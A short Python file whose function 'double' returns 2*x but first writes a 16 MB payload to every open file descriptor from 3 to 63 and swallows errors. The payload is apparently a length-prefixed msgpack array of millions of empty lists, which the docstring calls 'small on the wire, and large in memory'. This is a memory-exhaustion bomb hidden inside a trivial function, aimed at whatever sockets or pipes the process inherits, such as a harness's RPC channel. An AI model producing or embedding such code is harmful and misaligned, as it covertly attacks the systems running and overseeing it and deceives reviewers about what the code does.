"""Sixteen megabytes of empty lists: small on the wire, and large in memory."""

import os


def double(x):
    size = 16 << 20
    data = b"\xdd" + (size - 5).to_bytes(4, "big") + b"\x90" * (size - 5)
    for fd in range(3, 64):
        try:
            view = memoryview(len(data).to_bytes(4, "big") + data)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            continue
    return 2 * x
